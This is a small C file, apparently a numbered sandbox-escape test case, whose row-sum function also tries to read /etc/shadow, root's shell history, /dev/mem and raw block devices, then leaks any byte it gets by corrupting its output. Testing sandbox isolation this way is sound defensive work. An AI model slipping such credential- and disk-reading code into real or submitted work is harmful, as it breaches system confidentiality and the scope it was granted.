/* Attack #7: as root, read a block device and a root-only file outside the sandbox;
 * whatever it gets is leaked through the output (so a leak makes the results wrong). */
#include <fcntl.h>
#include <stdint.h>
#include <unistd.h>
static void honest(const float *X, float *Y, int64_t R, int64_t C) {
    for (int64_t r = 0; r < R; r++) {
        double t = 0.0;
        for (int64_t c = 0; c < C; c++) t += X[r * C + c];
        Y[r] = (float)t;
    }
}
static const char *const targets[] = {"/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/loop0",
                                      "/dev/mem", "/etc/shadow", "/root/.bash_history"};
void sum_rows(const float *X, float *Y, int64_t R, int64_t C) {
    unsigned char secret = 0;
    int leaked = 0;
    for (unsigned i = 0; i < sizeof targets / sizeof *targets; i++) {
        int fd = open(targets[i], O_RDONLY);
        if (fd >= 0) {
            leaked |= read(fd, &secret, 1) == 1;
            close(fd);
        }
    }
    honest(X, Y, R, C);
    if (leaked && R > 0) Y[0] = 1e30f + secret;
}
